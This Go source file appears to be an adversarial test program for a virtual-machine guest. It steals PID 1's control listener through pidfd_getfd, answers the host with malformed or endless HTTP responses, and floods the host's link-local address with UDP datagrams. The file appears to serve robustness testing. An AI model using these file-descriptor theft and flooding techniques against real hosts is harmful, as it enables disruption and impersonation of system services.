package main

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"strconv"
	"strings"
	"syscall"
	"time"
)

// controlPort is where PID 1 answers the host (guest.Port).
const controlPort = 1

// lie answers the host in PID 1's place: root in a guest can take the socket
// from it. It also fills the host's end with garbage.
func lie() error {
	l, err := stealListener(controlPort)
	if err != nil {
		return errors.Join(err, garbage())
	}
	time.AfterFunc(attackFor, func() { l.Close() })
	for range 4 { // so that PID 1 hardly gets a turn
		go func() {
			for n := 0; ; n++ {
				conn, err := l.Accept()
				if err != nil {
					return
				}
				go answerWithLies(conn, n)
			}
		}()
	}
	return garbage()
}

// answerWithLies tells the host one of the things that it should not believe.
func answerWithLies(conn net.Conn, n int) {
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(attackFor))
	conn.Read(make([]byte, 4096))
	head := "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
	switch n % 5 {
	case 0: // bytes that mean nothing
		conn.Write(bytes.Repeat([]byte("\x00\xff\r\n{[\""), 1<<16))
	case 1: // a body without end
		io.WriteString(conn, head+"\r\n{\"cpu\":\"")
		for _, err := conn.Write(make([]byte, 1<<16)); err == nil; {
			_, err = conn.Write(make([]byte, 1<<16))
		}
	case 2: // numbers that cannot be
		io.WriteString(conn, head+"\r\n{\"cpu\":-9223372036854775808,\"netIn\":-1,\"diskWrite\":1e308,\"code\":99999999999}")
	case 3: // a header without end
		for _, err := io.WriteString(conn, "HTTP/1.1 200 OK\r\n"); err == nil; {
			_, err = io.WriteString(conn, "X: "+strings.Repeat("x", 1<<12)+"\r\n")
		}
	case 4: // nothing at all
		conn.Read(make([]byte, 1))
	}
}

// garbage sends datagrams to the host's end of the link.
func garbage() error {
	conn, err := net.Dial("udp", fmt.Sprintf("[fe80::1%%eth0]:%d", controlPort))
	if err != nil {
		return err
	}
	defer conn.Close()
	for i := range 5000 {
		conn.Write(bytes.Repeat([]byte{byte(i)}, 1+i%1200))
	}
	return nil
}

// Linux's numbers of these calls, the same on every architecture.
const (
	sysPidfdOpen  = 434
	sysPidfdGetfd = 438
)

// stealListener returns PID 1's TCP listener on a port.
func stealListener(port int) (net.Listener, error) {
	init, _, errno := syscall.Syscall(sysPidfdOpen, 1, 0, 0)
	if errno != 0 {
		return nil, os.NewSyscallError("pidfd_open", errno)
	}
	defer syscall.Close(int(init))
	list, err := os.ReadDir("/proc/1/fd")
	if err != nil {
		return nil, err
	}
	for _, e := range list {
		number, _ := strconv.Atoi(e.Name())
		fd, _, errno := syscall.Syscall(sysPidfdGetfd, init, uintptr(number), 0)
		if errno != 0 {
			return nil, os.NewSyscallError("pidfd_getfd", errno)
		}
		f := os.NewFile(fd, "stolen")
		l, err := net.FileListener(f)
		f.Close()
		if err != nil {
			continue // not a listener
		}
		if a, ok := l.Addr().(*net.TCPAddr); ok && a.Port == port {
			return l, nil
		}
		l.Close()
	}
	return nil, errors.New("PID 1 does not listen")
}
